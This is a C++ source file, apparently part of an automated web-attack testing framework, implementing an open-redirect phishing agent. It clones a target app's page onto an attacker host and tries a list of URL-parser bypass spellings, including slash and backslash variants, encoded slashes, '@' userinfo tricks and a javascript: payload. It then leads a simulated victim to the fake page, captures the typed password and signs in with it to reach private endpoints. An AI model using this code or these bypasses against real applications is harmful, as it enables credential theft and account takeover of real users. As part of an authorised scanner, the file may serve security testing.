// open-redirect: a link to the app whose own parameter ("next") leads on to a host of the
// attacker's, where a copy of the app's page asks once more. Who followed the app's link types his
// password (OWASP Unvalidated Redirects and Forwards Cheat Sheet; CWE-601). The spellings are
// addresses that a browser reads otherwise than a check of the text
// (https://url.spec.whatwg.org/#url-parsing).
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/jwt_text.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostScripts = 5;

bool is_place(Parameter const& parameter) {
    return parameter.place == Place::Query &&
           (parameter.sample.starts_with('/') || parameter.sample.starts_with("http"));
}

void replace_all(std::string& text, std::string_view from, std::string const& to) {
    for (std::size_t at = text.find(from); at != std::string::npos;
         at = text.find(from, at + to.size()))
        text.replace(at, from.size(), to);
}

class OpenRedirect final : public Agent {
    void run(Target& target) override {
        std::vector<OwnHost*> const hosts = foreign_hosts(target);
        if (hosts.empty() || target.victim() == nullptr) return;
        for (Spot const& spot : spots_to_try(target, is_place)) {
            if (spot.endpoint->method != "GET") continue;
            std::string const page = random_word(target, 8);
            for (OwnHost* host : hosts) copy_page(target, *spot.endpoint, *host, page);
            for (std::string const& address : spellings(target, hosts, page))
                if (send_on(target, spot, address)) return;
        }
        target.note("No link of the app led a signed-in person to the attacker's page.");
    }

    // Of the app's page, forms and scripts, at his own address: what is sent there comes to him.
    static void copy_page(Target& target, Endpoint const& endpoint, OwnHost& host,
                          std::string const& word) {
        target.forget_cookies();
        std::string html = target.send(write_request(endpoint, samples(endpoint))).body;
        std::size_t scripts = 0;
        for (Tag const& tag : tags_in(html)) {
            std::string const from = tag.attribute("src").value_or("");
            if (tag.name != "script" || !from.starts_with('/') || ++scripts > kMostScripts)
                continue;
            host.answer(from.substr(0, from.find('?')), target.send({.target = from}));
        }
        replace_all(html, app_origin(target), "https://" + host.name());
        http::Response const copy = page(std::move(html));
        host.answer(host.folder() + word, copy);
        // Where "https://evil.example\@shop.example" is.
        host.answer(host.folder() + "@" + target.surface().host + "/" + word, copy);
    }

    static std::vector<std::string> spellings(Target const& target,
                                              std::vector<OwnHost*> const& hosts,
                                              std::string const& page) {
        std::string const& app = target.surface().host;
        std::vector<std::string> all;
        for (OwnHost const* host : hosts) all.push_back(address_on(*host, page));
        std::string const there = all.front();
        std::string const name = hosts.front()->name();
        std::string const plain = there.substr(std::string_view("https://").size());
        for (std::string_view before : {"//", "/\\", "\\\\", "///", "/\t/", "/\n/", "http:", "/%2f",
                                        "%2f%2f", "/%5c", "/%09/"})
            all.push_back(std::string(before) + plain);
        all.push_back("https://" + app + "@" + plain);
        all.push_back("https://" + name + "\\@" + app + "/" + page);
        all.push_back(there + "?https://" + app + "/");
        all.push_back(there + "#https://" + app + "/");
        all.push_back("javascript:location=" + script_string(there));
        return all;
    }

    // True when his password has come to the attacker.
    static bool send_on(Target& target, Spot const& spot, std::string const& address) {
        std::vector<std::string> values = samples(*spot.endpoint);
        values[spot.parameter] = address;
        std::string const link = app_origin(target) + write_request(*spot.endpoint, values).target;
        std::size_t const before = received(target).size();
        Victim& victim = *target.victim();
        victim.opens(link);
        std::vector<std::string> routines = split(target.option(option::kGoesOn), ',');
        if (routines.empty()) routines = {"signs in here"};
        // Whoever is signed in may not be asked to sign in.
        if (victim.goes_on(routines.front()) == Outcome::Hindered) {
            (void)victim.does(option_or(target, option::kSignsOut, "signs out"));
            victim.opens(link);
            (void)victim.goes_on(routines.front());
        }
        for (std::size_t i = 1; i < routines.size(); ++i) (void)victim.goes_on(routines[i]);
        (void)victim.goes_on(routines.front());
        victim.turns_away();
        std::vector<http::Request> const got = received(target);
        if (got.size() == before) return false;
        target.note("The app's own link led to " + got.back().host + ", by " + address + ".");
        try_loot(target, received_texts(target));
        return uses_password(target,
                             {got.begin() + static_cast<std::ptrdiff_t>(before), got.end()});
    }

    static std::vector<http::Request> received(Target& target) {
        std::vector<http::Request> all;
        for (OwnHost* host : target.hosts())
            for (http::Request const& each : host->received()) all.push_back(each);
        return all;
    }

    static bool uses_password(Target& target, std::vector<http::Request> const& requests) {
        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
        if (login == nullptr || password_parameter(*login) == login->parameters.size())
            return false;
        std::string const& name = login->parameters[password_parameter(*login)].name;
        for (http::Request const& each : requests) {
            std::string password = member(each.body, name).value_or("\"\"");
            password = password.substr(1, password.size() - 2);
            for (http::QueryPair const& pair : http::parse_query(each.body))
                if (pair.name == name) password = pair.value;
            target.forget_cookies();
            if (password.empty() || !sign_in(target, {target.victim()->username(), password}))
                continue;
            for (Endpoint const* own : private_endpoints(target))
                target.send(write_request(*own, samples(*own)));
            return true;
        }
        return false;
    }
};

}  // namespace

std::unique_ptr<Agent> make_open_redirect() { return std::make_unique<OpenRedirect>(); }

}  // namespace parapet::attack
